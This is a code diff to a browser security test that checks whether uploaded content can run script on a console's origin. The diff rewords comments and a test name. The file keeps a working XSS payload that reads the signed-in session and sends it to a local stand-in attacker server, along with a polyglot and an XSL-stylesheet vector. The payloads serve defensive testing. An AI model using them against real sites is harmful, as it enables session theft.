@@ -1,5 +1,5 @@
-// Tests in a signed-in browser that stored content runs no script on the console's origin, whatever type its uploader announced: opened
-// as a page, and embedded in an attacker's page. Prints what the browser did.
+// Tests in a signed-in browser that stored content runs no script on the console's origin, whatever type its uploader announced, both
+// when it is opened as a page and when an attacker's page embeds it. Prints what the browser did.
 // @module-tag long
 import { createHash } from 'node:crypto';
 import { createServer, type Server } from 'node:http';
@@ -30,7 +30,7 @@ function attackersUrl(): string {
   return `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
 }
 
-/** Returns a script that reads the session and sends it away. */
+/** Returns a script that reads the session and sends it to the attacker. */
 function script(): string {
   return `document.title = 'ran'; fetch('${attackersUrl()}ran'); fetch('${scene.local.url}/v1/session', { credentials: 'include' }).then((r) => r.text()).then((t) => fetch('${attackersUrl()}stolen?' + encodeURIComponent(t)))`;
 }
@@ -44,7 +44,7 @@ async function put(url: string, type: string, content: string): Promise<void> {
   expect(response.status).toBe(200);
 }
 
-/** Uploads content as a run's input, and returns its link from the organization's export. */
+/** Uploads the content as a run's input, and returns its link from the organization's export. */
 async function linkOfInput(type: string, content: string): Promise<string> {
   const path = { namespace_id: scene.local.namespace_id, plugin_id: 'echo_1_2_0' };
   const run = await client().post('/v1/namespaces/{namespace_id}/plugins/{plugin_id}/runs', {
@@ -85,7 +85,7 @@ const styledXml = async () => {
   const href = (await linkOfInput('text/xsl', stylesheet())).replaceAll('&', '&amp;');
   return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${href}"?><page/>`;
 };
-/** Both a page and a script. */
+/** Returns a text that is both a page and a script. */
 const polyglot = () => `/*<script>*/ ${script()} /*</script>*/`;
 
 const contents: [what: string, link: () => Promise<string>][] = [
@@ -109,7 +109,7 @@ async function watchedPage(): Promise<{ page: Page; asked: string[] }> {
 }
 
 describe.each(contents)('%s', (what, link) => {
-  test('stored content is saved when its link is opened', async () => {
+  test('stored content is downloaded when its link is opened', async () => {
     const url = await link();
     const { page, asked } = await watchedPage();
     const download = page.waitForEvent('download');
